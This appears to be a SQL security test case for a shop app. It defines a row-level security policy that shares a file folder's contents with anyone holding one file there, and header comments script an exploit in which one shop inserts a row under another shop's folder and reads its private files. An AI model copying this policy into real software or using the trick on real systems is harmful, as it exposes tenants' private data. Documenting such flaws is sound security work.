-- A shop registers a file under another shop's folder and so opens that folder's files to itself.
-- about: Attachment, Attachment_all, Attachment_folder
-- as: hf_bazaar_app
-- exploit: SET request.jwt.claims = '{"sub":"user_a"}';
-- exploit: INSERT INTO "Attachment" VALUES ('alpha', 'beta/x.png', 1);
-- exploit: SELECT "path" FROM "Attachment";
-- shows: beta/Road-secret.png
-- Files of a folder belong together: whoever has one of them sees the others (variants, thumbnails).
CREATE FUNCTION my_folders() RETURNS SETOF TEXT LANGUAGE sql STABLE SECURITY DEFINER
SET search_path = public, pg_temp AS $$
  SELECT split_part(a."path", '/', 1) FROM "Attachment" a WHERE has_role(a."shopId")
$$;
CREATE POLICY "Attachment_folder" ON "Attachment" FOR SELECT
  USING (split_part("path", '/', 1) IN (SELECT my_folders()));
